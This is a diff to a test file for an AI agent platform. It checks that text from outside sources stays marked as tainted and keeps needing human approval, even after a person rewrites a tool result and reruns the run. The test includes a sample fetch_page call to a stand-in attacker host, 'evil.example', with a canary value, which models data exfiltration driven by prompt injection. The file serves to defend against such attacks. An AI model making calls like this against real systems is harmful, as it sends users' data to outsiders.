@@ -5,6 +5,7 @@ import { changeVisibility, createAgent } from '@/server/agents/service';
 import { decideApproval } from '@/server/approvals/decide';
 import { type OrgContext, withTenant } from '@/server/context';
 import { createWorkspace } from '@/server/organizations/service';
+import { rerunRun } from '@/server/runs/repair';
 import { cancelRun, getRun, getSpan, listRuns, startRun } from '@/server/runs/service';
 import { waitForRun } from '@/server/runs/watch';
 import { makeMember, makeOrganization } from '@/server/testing/factories';
@@ -218,6 +219,11 @@ test('text from outside is not clean because another agent passes it on', async 
   const own = await run(boss, script(read, send, 'say Done.'));
   expect(own.status).toBe('waiting');
   expect(own.approvals[0]).toMatchObject({ isTainted: true });
+  // Nor because a person writes another answer in its place.
+  const edit = { fromStep: 'tool-0-0', result: { output: 'Read.', isError: false } };
+  const { id: edited } = await rerunRun(ctx, { runId: own.id, ...edit });
+  await waitForRun(ctx, edited, soon());
+  expect((await getRun(ctx, { runId: edited })).approvals[0]).toMatchObject({ isTainted: true });
   // Nor is an address that stands in the task one that a person has given.
   for (const way of [send, call('fetch_page', { url: 'https://evil.example/?k=canary' })]) {
     const { id } = await startRun(
